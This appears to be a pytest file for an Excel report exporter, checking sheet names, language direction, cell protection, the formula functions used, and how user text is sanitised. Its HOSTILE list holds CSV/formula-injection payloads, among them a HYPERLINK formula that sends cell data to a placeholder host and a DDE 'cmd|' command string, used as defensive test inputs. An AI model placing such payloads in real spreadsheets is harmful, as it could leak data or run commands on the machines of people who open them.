"""The workbook as a file: sheets, protection, direction, charts, and user text that stays text."""

from __future__ import annotations

import io
import re
import warnings
import zipfile

import openpyxl
import pytest

from toolkit.language import language
from toolkit.model.assessment import CapabilityAnswer, Subject
from toolkit.reports.excel.inert import closed, furniture, inert, sheet_name

TAGS = ("en", "zh-Hans", "ar")
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    "bad\x00\x0b\x1fchar",
    "<b>&amp;</b> \u202egnp.exe",
    "_x0041_ \uffff",
    "x" * 40_000,
)


@pytest.mark.parametrize("tag", TAGS)
def test_opens_without_a_warning_and_shows_every_capability(make, sample, library, tag):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        book = openpyxl.load_workbook(io.BytesIO(make(sample(), tag)))
    codes = {c.code for c in library.questionnaire("enterprise").capabilities}
    for title in ("Answers", "Level sentences", "Scores", "Weights"):
        sheet = book[sheet_name(language(tag).text(title))]
        assert codes <= {row[0].value for row in sheet.iter_rows(max_col=1)}


@pytest.mark.parametrize("mode", ["express", "quick", "full"])
def test_every_capability_stands_there_in_every_mode(opened, sample, library, mode):
    book = opened(sample(mode=mode))
    codes = [c.code for c in library.questionnaire("enterprise").capabilities]
    found = [row[0].value for row in book["Answers"].iter_rows(min_row=6, max_col=1)]
    assert found == codes
    assert ("Practices" in book.sheetnames) is (mode == "full")


@pytest.mark.parametrize("tag", TAGS)
def test_sheet_names_are_short_unique_and_safe(opened, sample, tag):
    names = opened(sample(), tag).sheetnames
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        assert 0 < len(name) <= 31
        assert not re.search(r"[\[\]:*?/\\]", name)


def test_sheet_names_survive_any_translation():
    taken: set[str] = set()
    for title in ("a/b", "a b", "A:B", "'quoted'", "History", "", "x" * 60, "x" * 61):
        name = sheet_name(title, taken)
        assert name.casefold() not in taken
        assert 0 < len(name) <= 31
        taken.add(name.casefold())


@pytest.mark.parametrize("tag", TAGS)
def test_sheets_run_in_the_direction_of_the_language(opened, sample, tag):
    book = opened(sample(), tag)
    assert {sheet.sheet_view.rightToLeft for sheet in book} == {tag == "ar"}
    order = book.worksheets[1]["B8"].alignment.readingOrder
    assert order == (2 if tag == "ar" else 1)


def test_two_charts_stand_on_the_first_sheet(make, sample):
    parts = zipfile.ZipFile(io.BytesIO(make(sample()))).namelist()
    assert sum(part.startswith("xl/charts/chart") for part in parts) == 2


def test_formulas_are_locked_and_answers_are_not(opened, sample):
    book = opened(sample())
    for sheet in book:
        assert sheet.protection.sheet
        assert not sheet.protection.password
    formulas = [c for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert len(formulas) > 1000
    assert all(cell.protection.locked for cell in formulas)
    row = book["Answers"][6]
    assert [row[n].protection.locked for n in (3, 4, 6, 8, 9, 10)] == [False] * 6
    assert not book["Practices"]["E6"].protection.locked
    assert not book["Weights"]["C4"].protection.locked


def test_formulas_use_only_functions_that_older_programs_know(opened, sample):
    known = {
        "ABS", "AND", "COLUMN", "COUNTA", "COUNTIF", "IF", "IFERROR", "INDEX", "INT", "ISNUMBER", "MATCH",
        "MAX", "MIN", "N", "NA", "OR", "ROUND", "ROUNDDOWN", "SUM", "SUMIFS", "SUMPRODUCT",
    }  # fmt: skip
    used = {
        name
        for sheet in opened(sample())
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        for name in re.findall(r"([A-Z][A-Z.]*)\(", re.sub(r'"[^"]*"', "", cell.value))
    }
    assert used <= known


def test_figures_at_issue_stand_as_plain_numbers_for_previews(opened, sample, library):
    book = opened(sample())
    sheet, cell = next(iter(book.defined_names["overall_score_at_issue"].destinations))
    assert book[sheet][cell].value == pytest.approx(1.5195195195195, abs=1e-4)
    assert book.calculation.fullCalcOnLoad


def test_language_and_title_stand_in_the_properties(opened, sample):
    properties = opened(sample(), "ar").properties
    assert properties.language == "ar"
    assert "Coastal Pump Works" in properties.title


@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_people_stays_text(make, sample, text):
    said = text[:9_000]
    answer = CapabilityAnswer(ladder=2, note=said, proof=said)
    given = sample(subject=Subject(name=said), answers={"strategy-and-investment": answer})
    book = openpyxl.load_workbook(io.BytesIO(make(given)))
    for cell in (book["Answers"]["J6"], book["Answers"]["K6"], book["Summary"]["A1"]):
        assert cell.data_type == "s"
        assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\uffff]", cell.value)
        assert cell.quotePrefix is cell.value.startswith(("=", "+", "-", "@"))
    formulas = [c.value for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert not [f for f in formulas if "cmd|" in f or "HYPERLINK" in f]


def test_text_that_looks_like_an_escape_is_escaped():
    assert inert("_x0041_\ud800") == "_x005F_x0041_"


def test_overlong_text_is_cut_with_a_note():
    kept = inert("x" * 40_000, "(shortened)")
    assert len(kept) <= 32_767
    assert kept.endswith("(shortened)")


def test_directions_opened_in_a_name_are_closed():
    assert closed("a\u2067b") == "a\u2067b\u2069"
    assert closed("a\u2069b") == "ab"


def test_no_isolate_is_left_where_a_font_may_lack_it(opened, sample):
    book = opened(sample(), "ar")
    shown = [
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and not sheet.column_dimensions[cell.column_letter].hidden
    ]
    assert not [value for value in shown if re.search("[\u2066\u2068]", value)]


def test_ampersand_in_a_header_is_no_code():
    assert furniture("R&D\n&P") == "R&&D &&P"
